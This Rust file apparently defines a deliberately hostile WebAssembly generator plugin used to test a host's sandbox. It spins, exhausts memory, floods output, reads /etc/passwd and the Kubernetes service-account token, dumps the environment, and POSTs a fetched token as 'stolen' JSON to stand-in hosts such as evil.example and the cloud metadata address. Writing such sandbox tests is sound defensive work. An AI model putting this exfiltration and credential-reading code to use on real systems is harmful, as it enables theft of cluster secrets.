//! A deliberately hostile generator component, for proving the host's sandbox.
//!
//! It exports the same `generator` interface as the real generator (world
//! `cloudsmith-access-token`), so a host loads it exactly as it loads the real
//! one. What it does is chosen by the manifest it is given, a JSON object
//! with a `hostile` field:
//!
//! | `hostile`      | what the plugin does                                                       |
//! |----------------|----------------------------------------------------------------------------|
//! | `loop`         | spins forever (pure compute: only epoch interruption can stop it)          |
//! | `sleep`        | sleeps an hour inside a host call (`wasi:clocks` poll)                     |
//! | `alloc`        | allocates 1 MiB blocks without bound, touching every page                  |
//! | `evil-host`    | fetches a service account token, then tries to send it to hosts outside the allowlist; returns what came back per target (`targets`: list of URLs) |
//! | `files`        | tries to read `/etc/passwd`, list `/` and `.`, write a file; returns what it saw |
//! | `env`          | returns every environment variable, argument and the working directory it sees |
//! | `huge-output`  | returns an `auth` of `bytes` bytes (default 256 MiB, or as much as memory allows) |
//! | `many-outputs` | returns `count` outputs (default 1,000,000)                               |
//! | `huge-error`   | fails with an `invalid-spec` message of `bytes` bytes (default 16 MiB), multi-line |
//! | `trap`         | executes `unreachable`                                                     |
//! | `panic`        | panics (the release profile aborts: a trap)                                |
//! | `stdout-flood` | writes to stdout and stderr without bound (or `bytes` each)               |
//! | `echo-token`   | fetches a service account token and prints it to stdout, stderr and its error |
//! | `leftovers`    | looks for what an earlier call left behind (a static counter, a marker on its heap and stack), then leaves its own; reports what it found |
//!
//! Modes that report what they saw (`evil-host`, `files`, `env`,
//! `stdout-flood`, `leftovers`) return it beside ESO's two keys (`auth` = `hostile-report`,
//! `expiry` = `0`), so a host that insists on those keys still hands the
//! report back to the test.
//!
//! Natively (the workspace's host build) this crate is empty.

#[cfg(target_arch = "wasm32")]
mod component {
    use std::io::Write;
    use std::time::Duration;

    use serde_json::Value;

    mod bindings {
        wit_bindgen::generate!({
            world: "cloudsmith-access-token",
            path: "../../wit",
            generate_all,
        });
    }

    use bindings::exports::secretgen::generator::generator as wit;
    use bindings::secretgen::generator::token_source;
    use bindings::wasi::http::outgoing_handler;
    use bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

    type Outputs = Vec<(String, Vec<u8>)>;

    const MIB: u64 = 1024 * 1024;
    const DEFAULT_TARGETS: &[&str] = &[
        "https://evil.example:443/steal",
        "http://127.0.0.1:9/steal",
        "https://169.254.169.254/latest/meta-data/",
    ];

    struct Hostile;

    impl wit::Guest for Hostile {
        fn info() -> wit::GeneratorInfo {
            // Looks like the real thing, so a host that checks `kind` loads it.
            wit::GeneratorInfo {
                kind: "CloudsmithAccessToken".into(),
                api_version: "generators.external-secrets.io/v1alpha1".into(),
                output_keys: vec!["auth".into(), "expiry".into()],
                version: "0.0.0-hostile".into(),
            }
        }

        fn generate(manifest: String, namespace: String) -> Result<Outputs, wit::GenerateError> {
            let m: Value = serde_json::from_str(&manifest).unwrap_or(Value::Null);
            let mode = m.get("hostile").and_then(Value::as_str).unwrap_or("");
            let num = |key: &str, default: u64| m.get(key).and_then(Value::as_u64).unwrap_or(default);
            match mode {
                "loop" => spin(),
                "sleep" => {
                    std::thread::sleep(Duration::from_secs(3600));
                    Ok(vec![("slept".into(), b"an hour".to_vec())])
                }
                "alloc" => alloc_without_bound(),
                "evil-host" => {
                    let targets: Vec<String> = match m.get("targets").and_then(Value::as_array) {
                        Some(list) => list.iter().filter_map(|v| v.as_str().map(String::from)).collect(),
                        None => DEFAULT_TARGETS.iter().map(|s| String::from(*s)).collect(),
                    };
                    Ok(report(evil_host(&targets, &namespace)))
                }
                "files" => Ok(report(files())),
                "env" => Ok(report(env())),
                "huge-output" => Ok(vec![
                    ("auth".into(), big_buffer(num("bytes", 256 * MIB))),
                    ("expiry".into(), b"1700000000".to_vec()),
                ]),
                "many-outputs" => Ok((0..num("count", 1_000_000))
                    .map(|i| (format!("k{i}"), vec![b'x'; 16]))
                    .collect()),
                "huge-error" => {
                    let bytes = big_buffer(num("bytes", 16 * MIB));
                    let mut text = String::from_utf8(bytes).unwrap_or_default();
                    text.insert_str(0, "hostile\nmulti-line\r\nerror ");
                    Err(wit::GenerateError::InvalidSpec(text))
                }
                "trap" => {
                    #[allow(unreachable_code)]
                    {
                        core::arch::wasm32::unreachable();
                    }
                }
                "panic" => panic!("hostile plugin panics on purpose"),
                "stdout-flood" => Ok(report(flood(m.get("bytes").and_then(Value::as_u64)))),
                "echo-token" => echo_token(&namespace),
                "leftovers" => Ok(report(leftovers())),
                other => Err(wit::GenerateError::InvalidSpec(format!(
                    "hostile plugin: unknown mode {other:?}"
                ))),
            }
        }
    }

    bindings::export!(Hostile with_types_in bindings);

    /// What the plugin saw, wrapped in ESO's two keys so a host that insists
    /// on `auth` and `expiry` still hands the rest back to the test.
    fn report(seen: Outputs) -> Outputs {
        let mut out = vec![
            ("auth".to_string(), b"hostile-report".to_vec()),
            ("expiry".to_string(), b"0".to_vec()),
        ];
        out.extend(seen);
        out
    }

    /// Calls made by this instance so far (in the data segment).
    static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);

    /// A marker built at run time, so that the module's own data never holds it.
    fn marker() -> Vec<u8> {
        b"revo-tfel-llac-reilrae".iter().rev().copied().collect()
    }

    /// What an earlier call left in this instance's memory, then leaves the same
    /// for a later call: the counter, the marker in a leaked heap block and on the
    /// stack. A host that reuses memory between calls without resetting it would
    /// show a counter above zero or the marker found.
    fn leftovers() -> Outputs {
        let before = CALLS.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        let marker = marker();
        let found = find_in_memory(&marker);
        Box::leak(marker.clone().into_boxed_slice());
        let on_stack = [0u8; 64];
        let mut on_stack = core::hint::black_box(on_stack);
        on_stack[..marker.len()].copy_from_slice(&marker);
        core::hint::black_box(&on_stack);
        vec![
            ("calls-before".into(), before.to_string().into_bytes()),
            ("marker-found".into(), found.to_string().into_bytes()),
        ]
    }

    /// Whether `needle` occurs anywhere in linear memory, other than in the
    /// copy this call made to search with.
    fn find_in_memory(needle: &[u8]) -> bool {
        let size = core::arch::wasm32::memory_size(0) * 65536;
        let own = needle.as_ptr() as usize;
        (1..size - needle.len()).any(|at| {
            // SAFETY: every address below memory_size is readable in wasm32 (0 is
            // skipped: it is the null pointer, and the bottom of the stack).
            at != own
                && (0..needle.len())
                    .all(|i| unsafe { core::ptr::read_volatile((at + i) as *const u8) } == needle[i])
        })
    }

    fn spin() -> ! {
        let mut n: u64 = 0;
        loop {
            n = core::hint::black_box(n.wrapping_add(1));
        }
    }

    fn alloc_without_bound() -> ! {
        let mut hoard: Vec<Vec<u8>> = Vec::new();
        loop {
            // Touch every byte so no lazy page trick hides the growth.
            hoard.push(vec![0xA5; MIB as usize]);
            core::hint::black_box(&hoard);
        }
    }

    /// A buffer of `want` bytes, or the largest power-of-two fraction of it
    /// that memory allows.
    fn big_buffer(want: u64) -> Vec<u8> {
        let mut size = usize::try_from(want).unwrap_or(usize::MAX);
        loop {
            let mut v: Vec<u8> = Vec::new();
            if v.try_reserve_exact(size).is_ok() {
                v.resize(size, b'A');
                return v;
            }
            size /= 2;
        }
    }

    fn a_token(namespace: &str) -> Result<String, String> {
        let account = token_source::ServiceAccountRef {
            name: "default".into(),
            namespace: None,
            audiences: vec!["https://api.cloudsmith.io".into()],
        };
        token_source::service_account_token(&account, namespace)
    }

    fn evil_host(targets: &[String], namespace: &str) -> Outputs {
        let (token, token_note) = match a_token(namespace) {
            Ok(t) => {
                let note = format!("got a token ({} bytes)", t.len());
                (t, note)
            }
            Err(e) => (String::new(), format!("token source refused: {e}")),
        };
        let mut out = vec![("token-source".to_string(), token_note.into_bytes())];
        for target in targets {
            let outcome = match send(target, format!("{{\"stolen\":\"{token}\"}}").as_bytes()) {
                Ok(status) => format!("answered {status}"),
                Err(e) => format!("error: {e}"),
            };
            out.push((target.clone(), outcome.into_bytes()));
        }
        out
    }

    /// POSTs `body` to `url`; the answer's status, or what went wrong.
    fn send(url: &str, body: &[u8]) -> Result<u16, String> {
        let (scheme, rest) = url.split_once("://").ok_or("not a URL")?;
        let (authority, path) = match rest.find('/') {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, "/"),
        };
        let request = OutgoingRequest::new(Fields::new());
        let scheme = if scheme == "http" {
            Scheme::Http
        } else {
            Scheme::Https
        };
        let set = [
            request.set_method(&Method::Post),
            request.set_scheme(Some(&scheme)),
            request.set_authority(Some(authority)),
            request.set_path_with_query(Some(path)),
        ];
        if set.iter().any(Result::is_err) {
            return Err("request refused while being built".into());
        }
        let outgoing = request.body().map_err(|()| "no body")?;
        {
            let stream = outgoing.write().map_err(|()| "no body stream")?;
            for chunk in body.chunks(4096) {
                stream
                    .blocking_write_and_flush(chunk)
                    .map_err(|e| format!("write: {e:?}"))?;
            }
        }
        let future = outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
        OutgoingBody::finish(outgoing, None).map_err(|e| format!("finish: {e:?}"))?;
        future.subscribe().block();
        match future.get() {
            Some(Ok(Ok(response))) => Ok(response.status()),
            Some(Ok(Err(code))) => Err(format!("{code:?}")),
            Some(Err(())) | None => Err("no response".into()),
        }
    }

    fn files() -> Outputs {
        fn show<T: core::fmt::Debug>(r: std::io::Result<T>) -> Vec<u8> {
            match r {
                Ok(v) => format!("ok: {v:?}").into_bytes(),
                Err(e) => format!("error: {e}").into_bytes(),
            }
        }
        let list = |p: &str| {
            std::fs::read_dir(p).map(|d| d.filter_map(Result::ok).map(|e| e.path()).collect::<Vec<_>>())
        };
        vec![
            (
                "read /etc/passwd".into(),
                show(std::fs::read_to_string("/etc/passwd")),
            ),
            ("list /".into(), show(list("/"))),
            ("list .".into(), show(list("."))),
            (
                "read /var/run/secrets/kubernetes.io/serviceaccount/token".into(),
                show(std::fs::read_to_string(
                    "/var/run/secrets/kubernetes.io/serviceaccount/token",
                )),
            ),
            (
                "write /tmp/hostile-was-here".into(),
                show(std::fs::write("/tmp/hostile-was-here", b"x")),
            ),
            ("cwd".into(), show(std::env::current_dir())),
        ]
    }

    fn env() -> Outputs {
        let vars: Vec<String> = std::env::vars_os()
            .map(|(k, v)| format!("{}={}", k.to_string_lossy(), v.to_string_lossy()))
            .collect();
        let args: Vec<String> = std::env::args_os()
            .map(|a| a.to_string_lossy().into_owned())
            .collect();
        vec![
            ("env-count".into(), vars.len().to_string().into_bytes()),
            ("env".into(), vars.join("\n").into_bytes()),
            ("args".into(), args.join("\n").into_bytes()),
            (
                "cwd".into(),
                std::env::current_dir()
                    .map(|p| p.display().to_string())
                    .unwrap_or_else(|e| format!("error: {e}"))
                    .into_bytes(),
            ),
        ]
    }

    /// Writes to stdout and stderr until a write fails or `limit` bytes went
    /// to each; reports how far it got.
    fn flood(limit: Option<u64>) -> Outputs {
        let chunk = vec![b'#'; 64 * 1024];
        let (mut out, mut err) = (std::io::stdout(), std::io::stderr());
        let mut written: u64 = 0;
        let why = loop {
            if limit.is_some_and(|l| written >= l) {
                break "limit reached".to_string();
            }
            if let Err(e) = out.write_all(&chunk).and_then(|()| out.flush()) {
                break format!("stdout: {e}");
            }
            if let Err(e) = err.write_all(&chunk).and_then(|()| err.flush()) {
                break format!("stderr: {e}");
            }
            written += chunk.len() as u64;
        };
        vec![
            ("written".into(), written.to_string().into_bytes()),
            ("stopped".into(), why.into_bytes()),
        ]
    }

    fn echo_token(namespace: &str) -> Result<Outputs, wit::GenerateError> {
        let token = a_token(namespace).map_err(wit::GenerateError::TokenSource)?;
        println!("hostile stdout: the token is {token}");
        eprintln!("hostile stderr: the token is {token}");
        Err(wit::GenerateError::InvalidSpec(format!(
            "hostile error: the token is {token}"
        )))
    }
}
